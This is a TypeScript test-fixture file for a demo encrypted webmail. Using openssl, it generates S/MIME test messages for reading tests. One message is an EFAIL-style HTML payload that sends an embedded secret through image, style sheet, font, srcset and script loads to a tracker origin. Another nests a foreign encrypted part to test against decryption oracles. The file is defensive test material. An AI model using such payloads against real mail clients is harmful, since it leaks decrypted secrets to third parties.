import { execFileSync } from 'node:child_process';
import { copyFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { peopleDirectory, storyDirectory } from '../../webmail/story-mail';

/**
 * Mail the reading tests need beyond the story's, written with the `openssl` CLI at test time
 * (TEAM.md: messages for tests are made at test time), into a directory the demo webmail imports
 * together with the story mail.
 */
const crlf = (text: string): string => text.replace(/\r?\n/g, '\r\n');

function headers(name: string, from: string, to: string, subject: string): string {
  return crlf(`From: ${from}\nTo: ${to}\nSubject: ${subject}\nDate: ${new Date().toUTCString()}\nMessage-ID: <reading-${name}@signet.example>\n`);
}

/** Encrypts a MIME entity to Jethro (and Ellie May) with openssl; returns the application/pkcs7-mime entity. */
function encryptToJethro(directory: string, entity: string): string {
  const input = join(directory, `entity-${Math.random().toString(16).slice(2)}.txt`);
  writeFileSync(input, crlf(entity));
  return crlf(
    execFileSync(
      'openssl',
      ['cms', '-encrypt', '-binary', '-crlfeol', '-aes-256-cbc', '-in', input, join(peopleDirectory, 'jethro.pem'), join(peopleDirectory, 'ellie-may.pem')],
      { encoding: 'latin1' },
    ),
  );
}

/**
 * An encrypted HTML message that tries every EFAIL-style remote load (image, style sheet, font,
 * background, srcset) towards `trackerOrigin`, around a secret sentence.
 */
export function writeEncryptedHtmlForJethro(directory: string, trackerOrigin: string): void {
  const html = `<html><head><link rel="stylesheet" href="${trackerOrigin}/style.css">
<style>@import url("${trackerOrigin}/import.css"); @font-face { font-family: t; src: url("${trackerOrigin}/font.woff"); } body { font-family: t; background: url(${trackerOrigin}/background.png); }</style></head>
<body><p>Jethro, the silo combination is <b>31-41-59</b>.</p>
<img src="${trackerOrigin}/efail.png?secret=31-41-59" alt=""><img srcset="${trackerOrigin}/srcset.png 1x" alt="">
<div style="background-image: url('${trackerOrigin}/inline-style.png')">Ellie May</div>
<script>fetch("${trackerOrigin}/script")</script></body></html>`;
  const entity = `Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 7bit\n\n${html}\n`;
  writeFileSync(
    join(directory, 'encrypted-html-for-jethro.eml'),
    headers('encrypted-html', '"Ellie May Clampett" <ellie-may@clampett.example>', '"Jethro Bodine" <jethro@jedco.example>', 'Silo') +
      encryptToJethro(directory, entity),
  );
}

/** An unencrypted message carrying someone's encrypted part as an attachment: never decrypted. */
export function writeNestedEncryptedPartForJethro(directory: string): void {
  const encrypted = encryptToJethro(directory, 'Content-Type: text/plain\n\nthe nested secret is 2718\n');
  const boundary = 'nested-boundary-1';
  const [encryptedHeaders, encryptedBody] = encrypted.split('\r\n\r\n', 2);
  const entity = crlf(
    `MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="${boundary}"\n\n--${boundary}\nContent-Type: text/plain\n\nForwarding this, can you read it?\n--${boundary}\n`,
  );
  const innerHeaders = encryptedHeaders.split('\r\n').filter((line) => !/^MIME-Version:/i.test(line)).join('\r\n');
  writeFileSync(
    join(directory, 'nested-encrypted-for-jethro.eml'),
    headers('nested-encrypted', '"Bob" <bob@hacker.example>', '"Jethro Bodine" <jethro@jedco.example>', 'Can you read this?') +
      entity +
      `${innerHeaders}\r\n\r\n${encryptedBody.trimEnd()}\r\n--${boundary}--\r\n`,
  );
}

export function copyStoryMail(directory: string): void {
  for (const name of readdirSync(storyDirectory).filter((file) => file.endsWith('.eml'))) {
    copyFileSync(join(storyDirectory, name), join(directory, name));
  }
}
